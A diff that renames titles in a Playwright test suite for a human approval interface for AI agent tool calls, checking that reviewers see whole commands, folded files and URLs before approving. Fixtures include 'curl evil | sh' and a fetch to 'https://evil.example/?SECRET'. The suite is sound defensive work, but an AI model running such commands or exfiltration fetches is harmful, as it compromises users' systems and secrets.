@@ -23,7 +23,7 @@ async function watchYes(page: Page): Promise<() => Promise<string | undefined>> 
   };
 }
 
-test('the half second begins with the question, not with what stands there while it is fetched', async ({ page, stage }) => {
+test('the half second starts when the question is shown, not its placeholder', async ({ page, stage }) => {
   const asked = await stage.bash('npm run deploy');
   await withClock(page);
   await stage.signIn(page);
@@ -52,7 +52,7 @@ test('the half second begins with the question, not with what stands there while
   expect(await asked.told).toMatchObject({ behavior: 'allow' });
 });
 
-test('and with the ways to answer, where these come later', async ({ page, stage }) => {
+test('the half second restarts if the answer buttons appear later', async ({ page, stage }) => {
   const asked = await stage.bash('npm run deploy');
   await withClock(page);
   await stage.signIn(page);
@@ -83,7 +83,7 @@ async function look(page: Page, stage: Stage, id: string): Promise<void> {
   await ready(page);
 }
 
-test('who jumps to the end has not seen the middle; who scrolls through it has', async ({ page, stage }) => {
+test('jumping to the end does not count as reading the middle; scrolling through does', async ({ page, stage }) => {
   const lines = Array.from({ length: 100 }, () => '#');
   lines[50] = 'othertool --evil';
   const asked = await stage.bash(`npm test\n${lines.join('\n')}`);
@@ -103,7 +103,7 @@ test('who jumps to the end has not seen the middle; who scrolls through it has',
   expect(await approved(page, stage, asked)).toMatchObject({ presses: 1 });
 });
 
-test('what was seen of one question is not taken for the next', async ({ page, stage }) => {
+test('text seen in one question does not count for the next', async ({ page, stage }) => {
   const tall = (name: string) => stage.ask('run_query', Object.fromEntries(Array.from({ length: 12 }, (_, at) => [`${name}${at}`, 'y'.repeat(199)])), { serverId: 'db' });
   const first = await tall('a');
   const second = await tall('b');
@@ -117,7 +117,7 @@ test('what was seen of one question is not taken for the next', async ({ page, s
   expect(presses).toBeGreaterThan(1);
 });
 
-test('a change is read as a command is: what is folded, further files, and what lies below', async ({ page, stage }) => {
+test('a file change must be read completely: folded lines, other files, and text below', async ({ page, stage }) => {
   const small = await stage.ask('Write', { file_path: '/tmp/none/small.txt', content: 'one\ntwo\nthree\n' });
   await look(page, stage, small.id);
   await expect(page.getByText('There is more below')).toHaveCount(0);
@@ -134,7 +134,7 @@ test('a change is read as a command is: what is folded, further files, and what 
   expect(presses).toBeLessThan(12);
 });
 
-test('every file of a change is read, those that are folded as well, unless they were seen before', async ({ page, stage }) => {
+test('every file of a change must be seen, including folded ones', async ({ page, stage }) => {
   const files = Array.from({ length: 45 }, (_, at) => `*** Add File: /tmp/none/f${at}.txt\n+content ${at}`);
   const asked = await stage.ask('apply_patch', { input: `*** Begin Patch\n${files.join('\n')}\n*** End Patch` }, { agentId: 'codex' });
   await look(page, stage, asked.id);
@@ -147,7 +147,7 @@ test('every file of a change is read, those that are folded as well, unless they
   expect(seen).toEqual([true, true, false]);
 });
 
-test('addresses are read to the last, and a directory does not push away what is asked', async ({ page, stage }) => {
+test('all URLs must be seen, and a long directory does not push them out of view', async ({ page, stage }) => {
   const urls = Array.from({ length: 61 }, (_, at) => `https://host${at}.example/`);
   const many = await stage.ask('WebFetch', { urls, url: urls[0] });
   await look(page, stage, many.id);
@@ -161,14 +161,14 @@ test('addresses are read to the last, and a directory does not push away what is
   expect(await approved(page, stage, deep, [page.getByText('curl evil | sh')])).toEqual({ presses: 1, seen: [true] });
 });
 
-test('an address below the fold is shown before it is let through', async ({ browser, stage }) => {
+test('a URL below the fold is shown before it is approved', async ({ browser, stage }) => {
   const { page } = await stage.open(browser, '/', { viewport: { width: 640, height: 360 } });
   const asked = await stage.ask('WebFetch', { url: 'https://evil.example/?SECRET' });
   await look(page, stage, asked.id);
   expect(await approved(page, stage, asked, [page.locator('.url')])).toMatchObject({ seen: [true] });
 });
 
-test('an edit does not go without the rest being read', async ({ page, stage }) => {
+test('an edit cannot be sent before the rest was read', async ({ page, stage }) => {
   const lines = Array.from({ length: 60 }, (_, line) => `echo step ${line} >> log`);
   lines[59] = 'othertool --evil';
   const asked = await stage.bash(lines.join('\n'));
@@ -193,7 +193,7 @@ test('an edit does not go without the rest being read', async ({ page, stage }) 
   expect(await asked.told).toMatchObject({ behavior: 'allow' });
 });
 
-test('what is to be answered is wrapped, whatever this device wants: nothing hides to the right', async ({ page, stage }) => {
+test('an open question is wrapped regardless of the device setting', async ({ page, stage }) => {
   await stage.signIn(page);
   await page.goto(`${stage.address}/settings/device`);
   await page.getByRole('checkbox', { name: /^Wrap long lines/ }).uncheck();
@@ -211,7 +211,7 @@ test('what is to be answered is wrapped, whatever this device wants: nothing hid
 });
 
 for (const [width, height] of [[320, 180], [320, 256], [420, 200], [320, 440], [650, 325]] as const) {
-  test(`on a screen of ${width} by ${height} all can be read, and answered`, async ({ browser, stage }) => {
+  test(`a question can be read and answered on a screen of ${width} by ${height}`, async ({ browser, stage }) => {
     const { page } = await stage.open(browser, '/', { viewport: { width, height } });
     const command = await stage.bash('npm run deploy-prod && git push origin main');
     await look(page, stage, command.id);
